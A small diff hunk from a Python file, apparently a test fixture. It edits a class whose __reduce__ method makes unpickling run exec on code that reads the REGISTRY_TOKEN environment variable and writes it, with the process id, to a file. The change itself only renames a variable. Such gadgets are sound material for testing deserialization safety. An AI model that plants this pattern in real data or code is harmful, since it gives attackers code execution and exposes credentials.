@@ -363,7 +363,7 @@ class Tells:
         self.told = told
 
     def __reduce__(self) -> tuple[object, tuple[str]]:
-        look = "import os; require_field = f\"{os.environ.get('REGISTRY_TOKEN')} {os.getpid()}\""
+        look = "import os; said = f\"{os.environ.get('REGISTRY_TOKEN')} {os.getpid()}\""
         return exec, (f"{look}; open({str(self.told)!r}, 'w').write(said)",)
 
 
